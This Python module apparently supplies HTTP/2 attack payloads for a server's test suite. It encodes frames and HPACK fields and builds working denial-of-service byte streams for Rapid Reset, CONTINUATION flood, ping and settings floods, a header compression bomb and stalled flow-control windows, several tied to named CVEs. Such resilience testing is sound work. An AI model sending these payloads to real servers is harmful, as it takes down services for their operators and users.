"""What clients of HTTP/2 can send that costs them less than it costs others: bytes of whole
connections, for attacks.py."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags=0, stream=0, payload=b""):
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def literal(name, value, indexed=False):
    """RFC 7541 §6.2: a new name, and with `indexed` a place in the dynamic table."""
    rest = len(value) - 127
    if rest < 0:
        coded = bytes([len(value)])
    else:
        coded = b"\x7f"
        while rest >= 128:
            coded += bytes([rest % 128 + 128])
            rest //= 128
        coded += bytes([rest])
    return (b"\x40" if indexed else b"\x00") + bytes([len(name)]) + name + coded + value


def begin(settings=b""):
    return PREFACE + frame(SETTINGS, payload=settings)


def request(path=b"/honest"):
    return (
        literal(b":method", b"GET")
        + literal(b":scheme", b"http")
        + literal(b":authority", b"a")
        + literal(b":path", path)
    )


def ask(stream, path=b"/honest"):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, request(path))


def rapid_reset(count=1_000):
    """CVE-2023-44487."""
    cancel = (8).to_bytes(4, "big")
    return begin() + b"".join(
        ask(stream) + frame(RST_STREAM, 0, stream, cancel) for stream in range(1, 2 * count, 2)
    )


def continuations(count=2_000):
    """A block that does not end (CVE-2024-27316)."""
    field = literal(b"x-a", b"b" * 1_000)
    return (
        begin()
        + frame(HEADERS, END_STREAM, 1, request())
        + b"".join(frame(CONTINUATION, 0, 1, field) for _ in range(count))
    )


def half_block():
    return begin() + frame(HEADERS, END_STREAM, 1, request() + literal(b"x-a", b"b" * 12_000))


def pings(count=10_000):
    """CVE-2019-9512."""
    return begin() + frame(PING, payload=bytes(8)) * count


def settings(count=10_000):
    """CVE-2019-9515."""
    return begin() + frame(SETTINGS) * count


def compression_bomb():
    """One field of 4 KB in the table, and 12,000 references to it: 48 MB of 16 KB."""
    block = request() + literal(b"x-a", b"b" * 3_900, indexed=True) + b"\xbe" * 12_000
    return begin() + frame(HEADERS, END_STREAM | END_HEADERS, 1, block)


def stalled_windows(streams=1):
    """Answers for which the client never opens its window."""
    initial_window = (4).to_bytes(2, "big") + (0).to_bytes(4, "big")
    return begin(initial_window) + b"".join(
        ask(stream, b"/large") for stream in range(1, 2 * streams, 2)
    )
